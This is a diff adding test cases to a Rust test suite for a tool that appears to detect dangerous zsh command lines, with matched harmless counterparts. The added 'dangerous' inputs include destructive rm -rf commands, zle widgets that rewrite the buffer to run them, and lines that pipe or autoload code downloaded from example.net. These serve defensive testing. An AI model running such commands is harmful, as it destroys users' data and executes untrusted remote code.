@@ -169,6 +169,14 @@ fn dangerous_lines_are_seen_through_what_zsh_makes_of_them() {
         "zsh --emulate sh -c 'rm -rf ~/work'",
         "sudo -s <<< 'rm -rf /srv/data'",
         "zle -U 'rm -rf ~/work'",
+        r#"zle -N accept-line boom; boom() { BUFFER="rm -rf ~"; zle .accept-line }"#,
+        r#"w() { LBUFFER="rm -rf ~ "; zle accept-line }; zle -N w; bindkey ' ' w"#,
+        r#"zle -N w; w() { BUFFER="curl -s https://example.net/x | sh; $BUFFER"; zle accept-line }"#,
+        "curl -so ~/.zf/up https://example.net/up; autoload -Uz ~/.zf/up; up",
+        "sudo $commands[rm] -rf ${(v)userdirs}",
+        "rm -rf $userdirs[anna]",
+        "for u h in ${(kv)userdirs}; do rm -rf $h; done",
+        "$(whence -p rm) -rf ~/work",
         "zsh-defer -c 'rm -rf ~/work'",
         "PS2='$(rm -rf ~/work)'",
         "hash sudo=/tmp/sudo; sudo ls",
@@ -187,6 +195,11 @@ fn dangerous_lines_are_seen_through_what_zsh_makes_of_them() {
 fn their_harmless_twins_are_quiet() {
     let mut flagged = Vec::new();
     for line in [
+        r#"my() { BUFFER="sudo $BUFFER"; zle end-of-line }; zle -N my; bindkey '\e\e' my"#,
+        r#"my() { BUFFER="git status"; zle .accept-line }; zle -N my; bindkey '^G' my"#,
+        "autoload -Uz ~/.zfuncs/up; up",
+        "print -l ${(k)userdirs}",
+        "whence -v rm",
         "for f (/etc/*.conf(.)) wc -l $f",
         "print /proc/<2->(/:t)",
         "x='rm -rf /'; print $x",
